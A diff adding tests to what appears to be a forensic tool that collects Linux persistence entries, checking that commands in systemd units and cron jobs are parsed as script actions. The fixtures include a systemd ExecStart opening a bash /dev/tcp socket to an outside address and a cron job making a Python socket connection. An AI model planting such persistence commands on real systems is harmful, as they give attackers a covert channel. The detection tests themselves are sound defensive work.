@@ -10,6 +10,7 @@ from hinomi.evidence.collectors.persistence import COLLECTOR
 from hinomi.evidence.sources.memory import MemoryFile, memory_target
 from hinomi.model.findings import Coverage
 from hinomi.model.tables.host import Persistence
+from hinomi.model.tables.scripts import ScriptAction
 
 KEY = base64.b64encode(b"\0\0\0\x0bssh-ed25519" + b"k" * 36).decode()
 RUNNABLE = MemoryFile(b"#!/bin/sh\n", mode=0o755)
@@ -18,7 +19,7 @@ PASSWD = "root:x:0:0:root:/root:/bin/sh\nann:x:1000:1000::/home/ann:/bin/bash\n"
 
 def collect(files: dict, coverage: Coverage | None = None) -> list[Persistence]:
     coverage = coverage or Coverage()
-    rows = list(COLLECTOR.collect(memory_target(files), coverage))
+    rows = [r for r in COLLECTOR.collect(memory_target(files), coverage) if isinstance(r, Persistence)]
     assert "crashed" not in {m.reason for m in coverage.misses}, coverage.misses
     return rows
 
@@ -443,3 +444,29 @@ PLACES = [
 )
 def test_any_content_is_rows_or_a_miss(data: bytes) -> None:
     collect(dict.fromkeys(PLACES, data))
+
+
+SPOKEN = {
+    ("/etc/systemd/system/x.service", "[Service]\nExecStart=/bin/bash -c 'exec 5<>/dev/tcp/198.51.100.9/443; cat <&5'\n"): (
+        "/etc/systemd/system/x.service » systemd-unit:2", "connects", "198.51.100.9:443",
+    ),
+    ("/etc/cron.d/x", "# jobs\n* * * * * root pidof agentd || /opt/agentd &\n"): (
+        "/etc/cron.d/x » cron:2", "starts", "/opt/agentd",
+    ),
+    ("/etc/cron.d/y", "*/5 * * * * root python3 -c 'import socket; socket.create_connection((\"198.51.100.7\", 443))'\n"): (
+        "/etc/cron.d/y » cron:1", "connects", "198.51.100.7:443",
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("case", SPOKEN)
+def test_a_command_that_is_a_script_is_read_as_one(case):
+    path, text = case
+    files = {path: MemoryFile(text.encode()), "/etc/passwd": MemoryFile(PASSWD.encode())}
+    rows = list(COLLECTOR.collect(memory_target(files), Coverage()))
+    assert SPOKEN[case] in [(r.path, r.action, r.object) for r in rows if isinstance(r, ScriptAction)]
+
+
+def test_a_command_that_only_starts_a_program_is_no_script():
+    files = {"/etc/cron.d/x": MemoryFile(b"* * * * * root /opt/agentd --quiet\n")}
+    assert not [r for r in COLLECTOR.collect(memory_target(files), Coverage()) if isinstance(r, ScriptAction)]
